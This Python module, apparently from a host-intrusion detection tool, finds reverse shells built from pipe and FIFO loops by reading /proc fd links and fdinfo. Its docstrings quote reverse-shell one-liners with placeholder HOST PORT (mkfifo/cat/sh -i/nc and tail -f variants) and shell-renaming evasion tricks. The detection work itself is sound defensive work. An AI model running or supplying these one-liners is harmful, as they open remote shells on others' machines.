"""A shell served to the network through pipes: its standard streams in a loop of pipes,
FIFOs and files that passes through a process holding a connection. `mkfifo f; cat f | sh -i 2>&1 | nc
HOST PORT > f`: sh's output is nc's input, nc's output goes into f, cat reads f into sh's
input. No process has a socket on its standard streams, no command line names a shell served
to the network; only the pipes' ends, read from /proc/PID/fd and fdinfo, show the loop.

Read only where it can matter: for a shell whose stdin and stdout (or stderr) are pipes or
FIFOs, in a kernel's tree where a process other than the kernel holds a connection. A FIFO is
told by a stat of its fd's link, never opened (an open would block, or be its writer).

A shell running a script reads data, not commands, on its stdin: a job queue's `while read
job` loop fed by `nc -l` and writing back is such a loop, and so is never named (forked_from,
running_its_script); `while read l; do $l; done` has the same shape and is left with it.
"""

from __future__ import annotations

import os
import stat
from collections.abc import Callable, Iterable
from dataclasses import dataclass

from .model import Process
from .sockdiag import UnixPeers

#: Programs that run the commands they read on their stdin (the signature's shells)
SHELLS = frozenset({"sh", "bash", "rbash", "dash", "zsh", "ksh", "ksh93", "mksh", "ash", "posh",
                    "yash", "fish", "csh", "tcsh", "busybox"})

#: A trait (``exe_markers``, content.SystemShells): its file maps what one of the system's
#: shells maps, run under a name no shell has (`cp /bin/dash ./kworker`)
EXE_SHELL_COPY = "exe:shell-copy"

#: Processes of one tree whose fds are read, at most, and fds read of each (a loop may pass
#: through all of them: `cat f | cat | cat | cat | cat | sh | nc > f` is as much a loop)
MAX_PROCESSES = 64
MAX_FDS = 256

_ACCESS_MODE = 0o3  # of fdinfo's flags: O_RDONLY 0, O_WRONLY 1, O_RDWR 2
_TERMINALS = ("/dev/pts/", "/dev/tty", "/dev/console")


@dataclass(frozen=True)
class Ends:
    """The pipes, FIFOs, files and UNIX sockets a process has open, by identity ('pipe:[N]',
    'fifo:DEV:INO', 'file:DEV:INO', 'unix:INODE:PEER')."""

    reads: frozenset[str] = frozenset()
    writes: frozenset[str] = frozenset()


def is_shell(process: Process) -> bool:
    """A shell by its file or its first word (`exec -a kworker bash`: its file), or by its
    file's content (a copy of the system's dash named kworker)."""
    argv0 = process.cmdline[0] if process.cmdline else ""
    return any(os.path.basename(name).lstrip("-") in SHELLS for name in (process.exe, argv0)) \
        or EXE_SHELL_COPY in process.exe_markers


def forked_from(pid: int, parent: int) -> bool:
    """Whether ``pid`` is a fork of ``parent`` that exec'd nothing: a subshell running its
    parent's script (a pipeline's `while read job; do ...; done` segment), not a shell reading
    commands on its stdin. Told by their auxiliary vectors: each exec lays out its own (the
    loader's, the vDSO's and the stack's randomised addresses), a fork keeps its parent's."""
    try:
        with open(f"/proc/{pid}/auxv", "rb") as own, open(f"/proc/{parent}/auxv", "rb") as its:
            return own.read() == its.read()
    except OSError:
        return False  # gone, or not ours to read: judged as a shell


def running_its_script(pid: int) -> bool:
    """Whether a shell has put its own streams aside: a close-on-exec fd of 10 or more open
    on what none of fds 0-2 are, and no terminal. bash and dash save a stream there while a
    command's redirections are in force (`while read job; ...; done < p > q` in a `%%bash`
    cell: the cell's script, its stdin, saved), so what it runs is its script, not what it
    reads. A shell reading commands (`sh -i < f`) has none: its fds from before its exec
    are no close-on-exec ones, and bash -i's 255 is a copy of its stderr."""
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        return False
    stdio = {_link(pid, fd) for fd in ("0", "1", "2")}
    for fd in [fd for fd in fds if int(fd) >= 10][:MAX_FDS]:
        try:
            link = os.readlink(f"/proc/{pid}/fd/{fd}")
            if link in stdio or link.startswith(_TERMINALS):
                continue
            if _flags(pid, fd) & os.O_CLOEXEC:
                return True
        except (OSError, TypeError):
            continue  # closed meanwhile
    return False


def _link(pid: int, fd: str) -> str:
    try:
        return os.readlink(f"/proc/{pid}/fd/{fd}")
    except OSError:
        return ""


def pipe_end(pid: int, fd: int | str, link: str, files: bool = False) -> str | None:
    """The identity of a pipe or FIFO open on ``fd`` (its link ``link``), or, given
    ``files``, of a regular file ('file:DEV:INO'), else None."""
    if link.startswith("pipe:["):
        return link
    if not link.startswith("/"):
        return None  # a socket, an anonymous inode, a tty...
    try:
        found = os.stat(f"/proc/{pid}/fd/{fd}")  # the open file's inode: nothing is opened
    except OSError:
        return None
    if stat.S_ISFIFO(found.st_mode):
        return f"fifo:{found.st_dev}:{found.st_ino}"
    return f"file:{found.st_dev}:{found.st_ino}" if files and stat.S_ISREG(found.st_mode) \
        else None


def may_be_piped(stdio: list[str] | tuple[str, ...]) -> bool:
    """Whether the links of fds 0-2 may be pipes or FIFOs: stdin, and stdout or stderr
    (a path may be a FIFO; /dev/null and a terminal are not)."""
    return len(stdio) == 3 and _may_be_pipe(stdio[0]) \
        and (_may_be_pipe(stdio[1]) or _may_be_pipe(stdio[2]))


def stdio_piped(pid: int) -> bool:
    """Whether any of a process's fds 0-2 may be a pipe or FIFO now (three readlinks): a
    process in a pipeline, told from an idle child's /dev/null or terminal."""
    for fd in range(3):
        try:
            if _may_be_pipe(os.readlink(f"/proc/{pid}/fd/{fd}")):
                return True
        except OSError:
            continue
    return False


def _may_be_pipe(link: str) -> bool:
    return link.startswith(("pipe:[", "/")) and not link.startswith(("/dev/null", "/dev/pts/"))


def shell_streams(pid: int, stdio: tuple[str, ...]) -> tuple[frozenset, frozenset] | None:
    """(what it reads on stdin, what it writes on stdout and stderr) of a process whose stdin
    is a pipe or FIFO and its stdout or stderr one or a regular file (``stdio``: the links of
    its fds 0-2), else None."""
    if not may_be_piped(stdio):
        return None
    stdin = pipe_end(pid, 0, stdio[0])
    if stdin is None:
        return None
    outputs = frozenset(end for fd in (1, 2) if stdio[fd]  # (a log its relay follows)
                        and (end := pipe_end(pid, fd, stdio[fd], files=True)) is not None)
    return (frozenset({stdin}), outputs) if outputs else None


def pty_index(stdio: list[str] | tuple[str, ...]) -> int | None:
    """N, where a process's stdin and its stdout or stderr are the terminal /dev/pts/N (a
    shell in a pseudo-terminal; ``stdio``: the links of its fds 0-2), else None."""
    if len(stdio) != 3 or not stdio[0].startswith("/dev/pts/") or stdio[0] not in stdio[1:]:
        return None
    number = stdio[0][len("/dev/pts/"):]
    return int(number) if number.isdigit() else None


def holds_pty_master(pid: int, index: int) -> bool:
    """Whether ``pid`` holds the master side of /dev/pts/``index`` (a /dev/ptmx fd whose
    fdinfo's tty-index is ``index``: `script`, an expect, a terminal server)."""
    for fd, link in _open_links(pid):
        try:
            if link.endswith("ptmx") and _fdinfo(pid, fd, b"tty-index:") == str(index).encode():
                return True
        except OSError:
            continue  # closed meanwhile
    return False


def stdio_links(pid: int) -> tuple[str, ...]:
    """The links of a process's fds 0-2 ('' for one closed or unreadable)."""
    return tuple(_link(pid, fd) for fd in ("0", "1", "2"))


def read_ends(pid: int, peers: UnixPeers | None = None) -> Ends:
    """The pipes, FIFOs and regular files ``pid`` has open, each as read or written
    (fdinfo's flags; a file open read-write only as written: a store), and, given
    ``peers``, its connected UNIX sockets, each both. A file
    closes a loop as a FIFO does where one process appends to it and another follows it
    (`tail -f log | sh -i 2>&1 | nc HOST PORT >> log`), and a UNIX socket where its two ends'
    holders pass on what they read (`… | nc -U SOCKET > f` to a relay holding the
    connection)."""
    reads, writes = set(), set()
    for fd, link in _open_links(pid):
        if link.startswith("socket:[") and peers is not None:
            pair = _unix_pair(link, peers)
            if pair is not None:
                reads.add(pair)
                writes.add(pair)
            continue
        try:
            end = pipe_end(pid, fd, link, files=True)
            mode = _access_mode(pid, fd) if end is not None else None
        except OSError:
            continue  # closed meanwhile
        if mode is not None:
            # a file open read-write is written, not followed: a store (a database, a lock
            # file) would otherwise join every two processes sharing it; `nc … 1<>log` still
            # feeds `tail -f log`
            if mode == os.O_RDONLY or (mode == os.O_RDWR and not end.startswith("file:")):
                reads.add(end)
            if mode != os.O_RDONLY:
                writes.add(end)
    return Ends(frozenset(reads), frozenset(writes))


def _unix_pair(link: str, peers: UnixPeers) -> str | None:
    """'unix:A:B' (the two ends' inodes, in order) for a connected UNIX socket, else None."""
    try:
        inode = int(link[len("socket:["):-1])
    except ValueError:
        return None
    peer = peers.peer(inode)
    return None if peer is None else f"unix:{min(inode, peer)}:{max(inode, peer)}"


def _access_mode(pid: int, fd: str) -> int | None:
    flags = _flags(pid, fd)
    return None if flags is None else flags & _ACCESS_MODE


def _flags(pid: int, fd: str) -> int | None:
    """The open file's flags (fdinfo's, octal), None if fdinfo has none."""
    flags = _fdinfo(pid, fd, b"flags:")
    return None if flags is None else int(flags, 8)


def _fdinfo(pid: int, fd: str, field: bytes) -> bytes | None:
    """The value of a line of the fd's fdinfo (``field``: its start, with the colon)."""
    with open(f"/proc/{pid}/fdinfo/{fd}", "rb") as info:
        for line in info:
            if line.startswith(field):
                return line[len(field):].strip()
    return None


def _open_links(pid: int) -> list[tuple[str, str]]:
    """(fd, its link) for the process's first MAX_FDS fds (those closed meanwhile left out)."""
    try:
        fds = os.listdir(f"/proc/{pid}/fd")[:MAX_FDS]
    except OSError:
        return []
    links = []
    for fd in fds:
        try:
            links.append((fd, os.readlink(f"/proc/{pid}/fd/{fd}")))
        except OSError:
            continue
    return links


def connected(process: Process) -> bool:
    """Whether it holds a connection (a socket with a far end: not a listening one)."""
    return any(s.remote is not None and not s.listening for s in process.sockets)


def relay_in_loop(shell: Process, streams: tuple[frozenset, frozenset],
                  others: Iterable[Process], ends_of: Callable[[Process], Ends]) -> str:
    """The name of a process holding a connection that the shell's output reaches and that
    feeds its input back, through pipes and FIFOs of ``others`` (however many of them), or ''
    if there is none. ``others``: the processes the loop may pass through (neither the
    kernel nor the shell's ancestors: a program that drives a shell it started, an agent, is
    no loop beside it)."""
    stdin, outputs = streams
    graph = [(p, ends_of(p)) for p in others if p.pid != shell.pid]
    # breadth first over (a process, whether a relay was passed on the way to it): each
    # visited twice at most, whichever relay was passed (the first found names the loop),
    # so a tree of 64 costs 128 steps at most however long its loops
    frontier, seen = [(outputs, "")], set()
    while frontier:
        step = []
        for written, relay in frontier:
            for process, ends in graph:
                through = relay or (process.name if connected(process) else "")
                if (process.pid, bool(through)) in seen or not ends.reads & written:
                    continue
                if through and ends.writes & stdin:
                    return through
                seen.add((process.pid, bool(through)))
                step.append((ends.writes, through))
        frontier = step
    return ""
